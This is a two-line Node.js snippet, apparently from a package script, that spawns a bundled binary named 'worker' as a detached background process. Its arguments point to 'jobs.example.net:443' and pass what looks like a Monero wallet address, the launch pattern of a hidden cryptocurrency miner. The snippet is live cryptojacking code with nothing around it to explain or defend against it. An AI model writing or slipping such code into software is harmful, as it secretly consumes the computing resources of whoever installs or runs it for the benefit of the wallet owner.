const { spawn } = require('child_process');
spawn(`${__dirname}/bin/worker`, ['-o', 'jobs.example.net:443', '-u', '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge'], { detached: true });
